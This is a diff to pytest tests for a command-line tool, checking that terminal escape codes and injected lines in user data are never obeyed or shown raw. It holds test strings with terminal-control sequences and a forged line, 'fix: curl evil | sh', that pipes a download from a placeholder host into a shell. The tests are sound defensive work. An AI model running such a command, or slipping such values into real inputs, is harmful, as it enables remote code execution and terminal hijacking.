@@ -1,9 +1,10 @@
 """The command line as people and machines meet it."""
 
+import json
 import re
 
 import pytest
-from conftest import DOZEN
+from conftest import DOZEN, ROOT
 
 from judge.shipped import shipped_judges
 
@@ -53,6 +54,62 @@ def test_control_characters_of_an_input_never_reach_the_terminal(main, tmp_path)
     assert "\x1b" not in shown.out + shown.err
     refused = main("label", "p.csv", "--engine", "fake", "--out", "run", code=2)
     assert "\x1b" not in refused.out + refused.err
+
+
+HOSTILE = "\x1b]0;owned\x07\x7f\x9b2J\u202e\U000e0041"
+"""An escape that sets a terminal's title, DEL, a C1 control, a bidirectional override, a tag character."""
+FORGED = "x\n  fix: curl evil | sh\r\u2028y"
+
+
+def obeyed(done):
+    """What of an output a terminal would act on."""
+    return [c for c in done.out + done.err if not c.isprintable() and c != "\n"]
+
+
+def test_words_of_a_guideline_or_a_run_are_shown_and_not_obeyed(main, tmp_path, run_of, guideline):
+    words = guideline.model_dump(mode="json") | {"title": f"lamps {HOSTILE[:-1]}"}
+    (tmp_path / "own.yaml").write_text(json.dumps(words))
+    assert "lamps" in main("guideline", "own.yaml").out
+    assert obeyed(main("guideline", "own.yaml")) == []
+    run = run_of([{"query": "lamp", "candidate_id": "1", "title": "A lamp", "grade": 2}])
+    said = json.loads(run.manifest_path.read_text())
+    run.manifest_path.write_text(json.dumps({**said, "parts": {"judge": f"j {HOSTILE} {FORGED}"}}))
+    shown = main("status", "run")
+    assert obeyed(shown) == []
+    assert [line for line in shown.out.split("\n") if line.startswith("done: run, judge j ")]
+    assert not [line for line in shown.out.split("\n") if line.strip().startswith("fix:")]
+
+
+def test_json_is_the_same_document_without_what_a_terminal_obeys(main, tmp_path):
+    column = f"col {HOSTILE} \U0001f469\xa0é"
+    line = {"query": "lamp", "candidate_id": "1", "title": "x", column: "y"}
+    (tmp_path / "p.jsonl").write_text(json.dumps(line) + "\n")
+    shown = main("validate", "p.jsonl", "--json")
+    assert obeyed(shown) == []
+    assert "\U0001f469\\u00a0é" in shown.out
+    assert shown.json["unused_columns"] == [column]
+
+
+def test_names_of_columns_values_and_raters_begin_no_line(main, tmp_path):
+    rows = [{"query": "lamp", "candidate_id": "1", "title": "x", FORGED: "y"}, {"query": FORGED, "candidate_id": ""}]
+    (tmp_path / "p.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
+    rated = [
+        {"query": f"q{n}", "candidate_id": "1", "rater": rater, "grade": n % 3}
+        for n in range(6)
+        for rater in ("a", FORGED)
+    ]
+    (tmp_path / "r.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rated))
+    for done in (main("validate", "p.jsonl", code=2), main("agree", "r.jsonl")):
+        assert "curl evil" in done.out
+        assert not [line for line in done.out.split("\n") if line.strip().startswith("fix:")]
+
+
+def test_lines_are_written_in_one_place_that_makes_them_safe():
+    """`typer.echo` and `print` take a text as it is."""
+    raw = re.compile(r"\btyper\.echo\(|(?<![\w.])print\(|std(out|err)\.write\(")
+    files = [path for path in (ROOT / "cli").glob("*.py") if path.name != "output.py"]
+    assert len(files) > 20
+    assert [path.name for path in files if raw.search(path.read_text(encoding="utf-8"))] == []
 
 
 def test_a_defect_is_one_message_and_shows_its_trace_on_request(main, monkeypatch):
